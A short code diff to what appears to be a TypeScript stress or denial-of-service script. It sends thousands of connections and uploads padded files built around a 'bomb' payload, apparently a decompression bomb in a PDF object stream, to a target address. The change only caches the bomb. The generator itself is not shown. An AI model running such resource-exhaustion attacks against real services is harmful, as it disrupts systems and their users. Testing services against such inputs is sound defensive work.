@@ -11,9 +11,12 @@ const UPLOADS_AT_ONCE = 7
 const LARGE_BYTES = 48_000_000
 const CONNECTIONS = 5_100
 
+// Made once: an attacker's own machine is not the one that is attacked.
+const BOMB = bombInObjectStream()
+
 const [kind = '', address = '', seconds = '', ...tokens] = process.argv.slice(2)
 const until = performance.now() + Number(seconds) * 1_000
-const large = new Uint8Array(Buffer.concat([bombInObjectStream(), Buffer.alloc(LARGE_BYTES, '%')]))
+const large = new Uint8Array(Buffer.concat([BOMB, Buffer.alloc(LARGE_BYTES, '%')]))
 const answers = new Map<string, number>()
 let made = 0
 const count = (answer: string | number) => answers.set(String(answer), (answers.get(String(answer)) ?? 0) + 1)
@@ -27,7 +30,7 @@ process.exit(0)
 function bombs(): Uint8Array<ArrayBuffer>[] {
   return Array.from(
     { length: BOMBS },
-    () => new Uint8Array(Buffer.concat([bombInObjectStream(), Buffer.from(`\n% ${process.pid} ${++made}`)])),
+    () => new Uint8Array(Buffer.concat([BOMB, Buffer.from(`\n% ${process.pid} ${++made}`)])),
   )
 }
 
